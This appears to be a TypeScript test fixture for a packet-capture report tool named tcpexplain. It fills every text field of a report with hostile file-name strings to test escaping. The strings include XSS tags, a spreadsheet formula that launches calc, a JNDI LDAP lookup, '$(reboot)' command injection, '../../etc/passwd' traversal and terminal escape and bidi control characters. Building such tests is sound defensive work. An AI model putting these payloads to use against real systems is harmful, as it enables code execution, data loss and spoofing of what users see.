import type { Report } from '../../src/report.js';

/** What somebody might put into the name of a file, to do harm where the report is shown. */
const TEXTS: readonly string[] = [
  '\u0000\u0007\u0008',
  '\u001b[2J\u001b]0;title\u0007',
  '\u009b31m\u0085',
  '\u202eevil\u2066\u2069\u200b\ufeff',
  '\u2028\u2029line',
  '\ud800lone\udc00',
  '\ufffe\uffff',
  'first\nsecond\r\nthird\ttab',
  `"double" 'single' \`back\` \`\`two\`\``,
  ']]>]]&gt;<![CDATA[',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '</failure></testcase>',
  '&amp;&lt;&#60;&#x3c;',
  `=cmd|' /C calc'!A0`,
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\uff1d1',
  '@mention and user@example.com',
  '#1 org/repo#2 GH-3 PROJ-4 !5 $6 &7 ~label %8',
  '0123abc 0123456789abcdef0123456789abcdef01234567',
  'https://evil.example www.evil.example ftp://evil.example mailto:a@evil.example javascript:alert(1)',
  '[text](https://evil.example) ![image](x.png) [ref]: https://evil.example',
  '| a | b |\n|---|---|',
  '--',
  '1.',
  '# heading\n- list\n1. one\n> quote\n---\n```\ncode',
  '**bold** _emphasis_ ~~gone~~ \\escape {macro} h1. {code}x{code}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant for another language
  '${jndi:ldap://evil.example} $(reboot) `reboot` ; reboot',
  '../../etc/passwd',
  'x'.repeat(5000),
];

/** Each with a name for the test. */
export const PAYLOADS: readonly (readonly [string, string])[] = TEXTS.map((text) => [JSON.stringify(text).slice(0, 60), text]);

/** A report in which a text stands wherever a text of a capture, or of its file's name, could. */
export function reportWith(text: string): Report {
  return {
    version: 1,
    tool: { name: 'tcpexplain', version: '0.0.0' },
    input: [{ name: text, frames: 3, sha256: null }],
    capture: {
      linkTypes: ['Ethernet'],
      frames: 3,
      segments: 3,
      skipped: {},
      start: '1700000000.000000000',
      seconds: 1,
      conversations: 1,
      outcomes: { [text]: 1 },
      caveats: [
        { id: 'capture-damaged', sentence: `${text}: the last record is cut off (at byte 1).` },
        { id: 'capture-offload', sentence: text },
      ],
    },
    hosts: [{ address: text, isLinux: true, kernel: text, reasons: [text] }],
    flows: [
      {
        stream: 0,
        client: text,
        server: text,
        roles: text,
        vantage: { place: 'client', reason: text },
        start: 0,
        seconds: 1,
        outcome: 'reset',
        roundTrip: null,
        sent: { client: { segments: 2, bytes: 0, resent: 0 }, server: { segments: 1, bytes: 0, resent: 0 } },
        states: [{ side: 'client', at: 0, from: text, to: text, frame: 1, basis: 'seen' }],
        clock: text,
        timers: [{ side: 'client', state: 'TIME_WAIT', timer: 'timewait', setting: null, from: 0, to: 60, sentence: text }],
        disagreements: { count: 1, listed: [{ frame: 1, verdict: 'resent-timeout', sentence: text }] },
        moments: [{ frame: 1, at: 0, side: 'client', segment: text, flags: [text], verdict: text, count: 1 }],
      },
    ],
    findings: (['failure', 'warning', 'note'] as const).map((severity) => ({
      pattern: 'syn-unanswered',
      title: text,
      severity,
      subject: text,
      side: 'client',
      streams: [0],
      frames: [1],
      filter: 'tcp.stream eq 0',
      sentence: text,
      suspects: [
        {
          cause: 'syn-unanswered-blackhole',
          title: text,
          certainty: 'likely',
          where: text,
          isLinux: true,
          because: [text],
          against: [text],
          facts: [text],
        },
      ],
      ruledOut: [{ cause: 'port-closed-rst', title: text, where: text, by: [text] }],
    })),
    leftOut: [],
  };
}

/** The same of two captures that are both called so, and of the path between them. */
export function comparisonWith(text: string): Report {
  const report = reportWith(text);
  const point = { capture: text, place: 'unknown' } as const;
  const way = {
    sent: 2,
    arrived: 1,
    lost: 1,
    lostBytes: 0,
    duplicated: 0,
    reordered: 0,
    delayed: 0,
    injected: 0,
    uncaptured: 0,
    unknown: 0,
    hops: null,
  };
  return {
    ...report,
    input: report.input.map((file) => ({ ...file, capture: text })),
    flows: report.flows.map((flow) => ({ ...flow, capture: text })),
    findings: report.findings.map((finding) => ({ ...finding, captures: [text, text] })),
    paths: [
      {
        from: point,
        to: point,
        clock: { offset: 0, drift: 0, uncertainty: null, basis: 'assumed' },
        conversations: 1,
        onlyFrom: 0,
        onlyTo: 0,
        ways: [
          { ...way, direction: 'to server', delay: { shortest: 0.1, median: 0.2, longest: 0.3 } },
          { ...way, direction: 'to client', delay: null },
        ],
        events: [{ kind: 'lost', direction: 'to server', at: 0.1, from: { stream: 0, frame: 1 }, to: null, segment: text, delay: null }],
        eventsOmitted: 1,
        rewritten: [{ what: 'MSS', direction: 'to server', before: text, after: text, count: 1, frames: { from: 1, to: 1 } }],
        silences: [{ of: 'client', at: 1, seconds: 1, streams: { from: 0, to: null }, whose: 'path', sentence: text }],
        sentences: [text],
      },
    ],
  };
}

/** Characters that do something on a terminal. The end of a line is the writer's own. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not occur
export const HARMFUL: RegExp = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]|\p{Cs}/u;
